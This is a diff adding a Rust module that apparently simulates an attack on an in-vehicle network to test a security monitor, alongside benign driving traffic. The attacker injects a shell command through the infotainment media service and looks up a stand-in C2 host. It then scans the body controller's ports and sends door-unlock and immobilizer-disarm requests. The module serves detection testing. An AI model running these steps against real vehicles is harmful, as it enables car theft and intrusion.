@@ -1,0 +1,188 @@
+//! The attacker of the reference attack, and the benign traffic of a normal drive: real
+//! requests from the ECUs' own addresses, each step reported as a JSON line.
+
+use std::io::{BufRead, BufReader, Write};
+use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
+use std::time::{Duration, Instant};
+
+use serde::Serialize;
+use someip_rs::transport::UdpClient;
+use someip_rs::{ClientId, MethodId, ServiceId, SomeIpMessage};
+use vsiem_topology::{AddressMode, Topology};
+
+use super::body::{CLIMATE, DISARM, DOOR_LOCK, GET_STATE, IMMOBILIZER, LOCK, SET_TEMPERATURE, UNLOCK};
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
+pub enum Scenario {
+    /// DESIGN.md's reference attack: exploit the IVI, then move laterally to the body controller.
+    Reference,
+    /// A normal drive: allowed calls only.
+    Benign,
+}
+
+/// One step as the attacker saw its outcome.
+#[derive(Debug, Clone, Serialize)]
+pub struct Step {
+    pub kind: &'static str,
+    pub step: String,
+    pub from: String,
+    pub outcome: String,
+    pub timestamp_ns: u64,
+}
+
+pub struct Attacker<'a> {
+    pub topology: &'a Topology,
+    pub addressing: AddressMode,
+    /// The IVI media service the exploit targets.
+    pub ivi_media: SocketAddr,
+    /// How long the attacker keeps trying once its first requests were refused.
+    pub persistence: Duration,
+}
+
+const REPLY_TIMEOUT: Duration = Duration::from_millis(500);
+/// The shell command the exploit injects: plant an implant in the read-only system tree and
+/// stay around long enough to be an observable process.
+const PAYLOAD: &str = "x; echo implant >> opt/ivi/system/bin/ivi-update; sleep 3";
+
+impl Attacker<'_> {
+    pub fn run(&self, scenario: Scenario, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
+        match scenario {
+            Scenario::Reference => self.reference(out),
+            Scenario::Benign => self.benign(out),
+        }
+    }
+
+    fn reference(&self, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
+        let ivi = self.address("ivi")?;
+        out(step("exploit", "outside", self.exploit()));
+        out(step("dns c2.evil.example", &ivi.to_string(), self.dns_lookup(ivi, "c2.evil.example")));
+        out(step("port scan body-dc", &ivi.to_string(), self.port_scan(ivi, "body-dc")));
+        out(self.call(ivi, 0x0003, "ivi", DOOR_LOCK, UNLOCK, "DoorLock.Unlock", &[]));
+        out(self.call(ivi, 0x0003, "ivi", IMMOBILIZER, DISARM, "Immobilizer.Disarm", &[]));
+        // Keep trying a call the IVI is normally allowed to make, until the block stops it.
+        let start = Instant::now();
+        loop {
+            let attempt = self.call(ivi, 0x0003, "ivi", DOOR_LOCK, LOCK, "DoorLock.Lock", &[]);
+            let refused = attempt.outcome != "ok";
+            out(attempt);
+            if refused || start.elapsed() > self.persistence {
+                break;
+            }
+            std::thread::sleep(Duration::from_millis(100));
+        }
+        out(self.call(ivi, 0x0003, "ivi", DOOR_LOCK, UNLOCK, "DoorLock.Unlock", &[]));
+        Ok(())
+    }
+
+    fn benign(&self, out: &mut dyn FnMut(Step)) -> std::io::Result<()> {
+        let ivi = self.address("ivi")?;
+        let tcu = self.address("tcu")?;
+        out(self.call(ivi, 0x0003, "ivi", DOOR_LOCK, LOCK, "DoorLock.Lock", &[]));
+        out(self.call(ivi, 0x0003, "ivi", CLIMATE, SET_TEMPERATURE, "Climate.SetTemperature", &215i16.to_be_bytes()));
+        out(self.call(ivi, 0x0003, "ivi", IMMOBILIZER, GET_STATE, "Immobilizer.GetState", &[]));
+        out(self.call(tcu, 0x0002, "tcu", DOOR_LOCK, UNLOCK, "DoorLock.Unlock", &[]));
+        Ok(())
+    }
+
+    fn address(&self, ecu: &str) -> std::io::Result<IpAddr> {
+        self.topology
+            .ecu_address(ecu, self.addressing)
+            .map(IpAddr::V4)
+            .ok_or_else(|| std::io::Error::other(format!("{ecu} has no address")))
+    }
+
+    /// Sends the crafted PLAY request to the media service.
+    fn exploit(&self) -> String {
+        let attempt = || -> std::io::Result<String> {
+            let mut stream = TcpStream::connect_timeout(&self.ivi_media, REPLY_TIMEOUT)?;
+            stream.set_read_timeout(Some(REPLY_TIMEOUT))?;
+            writeln!(stream, "PLAY {PAYLOAD}")?;
+            let mut reply = String::new();
+            BufReader::new(stream).read_line(&mut reply)?;
+            Ok(reply.trim().to_owned())
+        };
+        attempt().unwrap_or_else(|e| format!("failed: {e}"))
+    }
+
+    /// Resolves a C&C name through the TCU's resolver (the IVI's only DNS path).
+    fn dns_lookup(&self, from: IpAddr, name: &str) -> String {
+        let attempt = || -> std::io::Result<String> {
+            let tcu = self.address("tcu")?;
+            let socket = UdpSocket::bind((from, 0))?;
+            socket.send_to(&dns_query(name), (tcu, 53))?;
+            Ok("query sent".to_owned())
+        };
+        attempt().unwrap_or_else(|e| format!("failed: {e}"))
+    }
+
+    /// Probes the SOME/IP port range of an ECU with one-byte datagrams.
+    fn port_scan(&self, from: IpAddr, target: &str) -> String {
+        let attempt = || -> std::io::Result<String> {
+            let ip = self.address(target)?;
+            let socket = UdpSocket::bind((from, 0))?;
+            let ports = 30490..=30510u16;
+            for port in ports.clone() {
+                socket.send_to(&[0], (ip, port))?;
+            }
+            Ok(format!("{} ports probed", ports.len()))
+        };
+        attempt().unwrap_or_else(|e| format!("failed: {e}"))
+    }
+
+    #[allow(clippy::too_many_arguments)] // One call of the script: who, as whom, what, with which payload.
+    fn call(&self, from: IpAddr, client: u16, as_ecu: &str, service: u16, method: u16, name: &str, payload: &[u8]) -> Step {
+        let attempt = || -> Result<String, Box<dyn std::error::Error>> {
+            let provider = self
+                .topology
+                .service(service)
+                .ok_or("unknown service")?;
+            let ip = self.address(&provider.provider)?;
+            let mut client_socket = UdpClient::bind((from, 0))?;
+            client_socket.set_client_id(ClientId(client));
+            client_socket.set_read_timeout(Some(REPLY_TIMEOUT))?;
+            let request = SomeIpMessage::request(ServiceId(service), MethodId(method))
+                .payload(payload.to_vec())
+                .build();
+            let response = client_socket.call_to((ip, provider.port), request)?;
+            Ok(if response.is_ok() {
+                "ok".to_owned()
+            } else {
+                format!("refused: {:?}", response.return_code())
+            })
+        };
+        let outcome = attempt().unwrap_or_else(|e| format!("failed: {e}"));
+        step(&format!("someip {name}"), as_ecu, outcome)
+    }
+}
+
+fn step(what: &str, from: &str, outcome: String) -> Step {
+    Step {
+        kind: "attack",
+        step: what.to_owned(),
+        from: from.to_owned(),
+        outcome,
+        timestamp_ns: vsiem_schemas::now_ns(),
+    }
+}
+
+/// A minimal DNS query (one A question, recursion desired).
+fn dns_query(name: &str) -> Vec<u8> {
+    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
+    for label in name.split('.') {
+        q.push(u8::try_from(label.len()).unwrap_or(63).min(63));
+        q.extend(label.bytes().take(63));
+    }
+    q.extend([0, 0, 1, 0, 1]);
+    q
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn dns_query_encodes_labels() {
+        let q = dns_query("c2.evil.example");
+        assert_eq!(&q[12..], b"\x02c2\x04evil\x07example\x00\x00\x01\x00\x01");
+    }
+}
